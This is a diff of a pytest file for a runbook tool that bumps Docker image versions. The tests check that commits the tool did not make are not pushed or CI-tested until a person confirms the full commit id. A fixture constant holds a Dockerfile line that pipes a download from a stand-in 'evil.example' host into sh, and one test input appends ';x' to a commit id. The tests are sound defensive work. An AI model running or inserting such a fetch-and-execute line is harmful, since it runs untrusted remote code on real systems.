@@ -1,13 +1,12 @@
 """Nothing is pushed or tested that the runbook did not make, unless a person has confirmed that very commit."""
 
 import subprocess
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from bumping import CONTRIBUTOR, World, bump_to, git
-from bumping import world as start
+from bumping import BRANCH, CONTRIBUTOR, World, bump_to, git
 from figures import Figures
 
 from runbook_lib.bump import FOREIGN, Bump
@@ -20,23 +19,10 @@ from runbook_lib.workflow import branch as position
 from runbook_lib.workflow import branch_history, ci_run, golden_comparison, pull_request, push_round
 from runbook_lib.workflow.pull_request import PullRequestState
 
-BRANCH = "bump/main/dev-26.04-py3"
 TITLE = "chore: Update Docker image version to 26.04-py3"
 PIN, DOCKERFILE = "docker/.ngc_version.dev", "docker/Dockerfile.ci.dev"
 GOLDEN = "tests/functional_tests/test_cases/gpt/gpt3_mcore_te_tp1_pp1/golden_values_dev_dgx_h100.json"
 EVIL = "RUN curl https://evil.example/x | sh\n"
-
-
-@pytest.fixture
-def world(tmp_path: Path) -> Iterator[World]:
-    with start(tmp_path) as made:
-        yield made
-
-
-@pytest.fixture
-def opened(world: World) -> World:
-    world.open_pr()
-    return world
 
 
 def authorize(world: World, **parameters: str) -> PullRequestState:
@@ -54,10 +40,6 @@ def authorize(world: World, **parameters: str) -> PullRequestState:
 
 def commands(world: World) -> list[str]:
     return [it.body for it in world.github().comments(10) if it.body.startswith("/ok")]
-
-
-def head(world: World) -> str:
-    return git(world.remote, "rev-parse", BRANCH)
 
 
 class Other:
@@ -261,7 +243,7 @@ def test_a_preview_confirms_nothing(opened: World) -> None:
 
 @pytest.mark.parametrize("made", ["{short}", "{short}0", "HEAD", "", "{upper}", "{commit}0", "{commit};x", "*"])
 def test_a_commit_is_confirmed_by_its_full_id(opened: World, made: str) -> None:
-    commit = head(opened)
+    commit = opened.head()
     told = made.format(short=commit[:7], upper=commit.upper(), commit=commit)
     with pytest.raises(RunbookError, match=r"full commit id|names no known exception"):
         bump_to(allow=f"{FOREIGN}:{told}")
@@ -280,7 +262,7 @@ def test_a_commit_that_is_not_there_is_not_confirmed(opened: World) -> None:
 def test_what_is_pushed_between_the_look_and_the_comment_is_not_tested(
     opened: World, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    reviewed, comment = head(opened), GitHub.comment
+    reviewed, comment = opened.head(), GitHub.comment
 
     def late(github: GitHub, number: int, body: str) -> object:
         other = Other(opened)
@@ -322,10 +304,10 @@ def test_a_commit_without_parents_is_foreign(opened: World) -> None:
 def test_another_machine_knows_the_pins_by_planning_them(opened: World, tmp_path: Path) -> None:
     for file in opened.records.rglob("*.json*"):
         file.unlink()
-    review = branch_history.review(position.find(opened.checkout, bump_to()), head(opened), tmp_path / "none")
+    review = branch_history.review(position.find(opened.checkout, bump_to()), opened.head(), tmp_path / "none")
     assert (len(review.commits), review.foreign) == (1, ())
     other = bump_to("26.02-py3")
-    assert branch_history.review(position.find(opened.checkout, other), head(opened), None).foreign
+    assert branch_history.review(position.find(opened.checkout, other), opened.head(), None).foreign
 
 
 def test_empty_commits_and_clean_merges_add_nothing(opened: World) -> None:
@@ -339,7 +321,7 @@ def test_empty_commits_and_clean_merges_add_nothing(opened: World) -> None:
     other.git("merge", "-q", "--no-ff", "-m", "Merge branch 'main'", "aside")
     other.push()
     assert authorize(opened).held == ""
-    assert commands(opened) == [f"/ok to test {head(opened)}"]
+    assert commands(opened) == [f"/ok to test {opened.head()}"]
 
 
 def test_a_merge_by_an_older_git_is_a_persons_to_confirm(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -409,7 +391,7 @@ def test_what_a_hook_has_made_is_pushed_once_confirmed(world: World) -> None:
     commit = made.review.foreign[0].id
     assert made.commit == commit
     world.open_pr(allow=f"{FOREIGN}:{commit}")
-    assert head(world) == commit
+    assert world.head() == commit
     assert [it["exception"] for it in world.said("exception")] == [f"{FOREIGN}:{commit}"]
     assert authorize(world).held == ""
 
@@ -464,12 +446,12 @@ def test_what_is_pushed_is_what_was_reviewed(world: World, monkeypatch: pytest.M
 
     monkeypatch.setattr(branch_history, "review", then)
     made = world.open_pr()
-    assert head(world) == made.commit
+    assert world.head() == made.commit
     assert "evil.sh" not in git(world.remote, "ls-tree", "-r", "--name-only", BRANCH)
 
 
 def test_a_persons_own_commit_waits_for_its_confirmation(opened: World) -> None:
-    path, before = opened.checkout.path, head(opened)
+    path, before = opened.checkout.path, opened.head()
     (path / "notes").write_text("mine\n")
     git(path, "add", "notes")
     git(path, "commit", "-q", "-m", TITLE)
@@ -479,9 +461,9 @@ def test_a_persons_own_commit_waits_for_its_confirmation(opened: World) -> None:
         assert "notes" in made.view.text
         assert "push" not in opened.effects()
         assert [it["name"] for it in opened.said("decision")] == [f"{FOREIGN}:{git(path, 'rev-parse', 'HEAD')}"]
-    assert head(opened) == before
+    assert opened.head() == before
     opened.open_pr(allow=f"{FOREIGN}:{git(path, 'rev-parse', 'HEAD')}")
-    assert head(opened) != before
+    assert opened.head() != before
 
 
 def test_answers_to_ci_are_reviewed_before_their_push(opened: World) -> None:
@@ -490,12 +472,12 @@ def test_answers_to_ci_are_reviewed_before_their_push(opened: World) -> None:
     path = opened.checkout.path
     (path / GOLDEN).write_text("{}\n")
     git(path, "commit", "-q", "-am", "test: refresh golden values for 26.04-py3")
-    before, bump = head(opened), bump_to()
+    before, bump = opened.head(), bump_to()
     step = opened.step(bump)
     sent = push_round.send(step, pull_request.read_state(position.find(opened.checkout, bump), opened.github()))
     assert "waiting for a person to confirm" in sent.held
     assert GOLDEN in sent.view.text
-    assert (sent.commit, head(opened), len(commands(opened))) == ("", before, 1)
+    assert (sent.commit, opened.head(), len(commands(opened))) == ("", before, 1)
 
 
 def test_an_empty_commit_goes_on_nothing_foreign(opened: World) -> None:
@@ -504,10 +486,10 @@ def test_an_empty_commit_goes_on_nothing_foreign(opened: World) -> None:
     other = Other(opened)
     on_top(other)
     other.push()
-    before = head(opened)
+    before = opened.head()
     opened.forge.refuse_deployment()
     authorize(opened)
-    assert (head(opened), len(commands(opened))) == (before, 1)
+    assert (opened.head(), len(commands(opened))) == (before, 1)
     assert opened.effects() == []
 
 
